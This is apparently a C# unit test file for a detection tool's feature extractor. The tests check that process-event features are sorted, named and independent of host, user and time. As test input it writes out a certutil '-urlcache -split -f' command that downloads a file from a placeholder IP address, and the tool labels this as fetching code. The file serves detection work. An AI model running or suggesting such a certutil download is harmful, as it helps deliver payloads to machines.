using Changeling.Features;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

public class SparseGramTests
{
    [Fact]
    public void Buckets_are_ascending_distinct_and_in_range()
    {
        var grams = FeatureExtractor.Extract(
            Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split -f http://192.0.2.1/a a a a")).Grams;

        Assert.NotEmpty(grams);
        Assert.Equal(grams.Distinct().Order(), grams);
        Assert.All(grams, g => Assert.InRange(g, 0, SparseGrams.Buckets - 1));
    }

    [Fact]
    public void Every_set_bucket_has_a_name()
    {
        var e = Some.ProcessEvent(child: "certutil.exe", commandLine: "certutil -urlcache -split");
        var grams = FeatureExtractor.Extract(e).Grams.ToHashSet();

        var names = SparseGrams.Describe(Launch.Of(e), FeatureExtractor.Extract(e).Values, grams);

        Assert.Equal(grams.Order(), names.Keys.Order());
        Assert.Contains("command_line.word:-urlcache", names.Values);
        Assert.Contains("command_line.word:-urlcache -split", names.Values);
        Assert.Contains("telltale.fetches_code", names.Values);
    }

    [Fact]
    public void Host_user_name_and_time_are_no_grams()
    {
        var e = Some.ProcessEvent();
        var elsewhere = e with { Host = new("other"), User = new("someone", "ELSE"), Time = e.Time.AddYears(1) };

        Assert.Equal(FeatureExtractor.Extract(e).Grams, FeatureExtractor.Extract(elsewhere).Grams);
    }
}
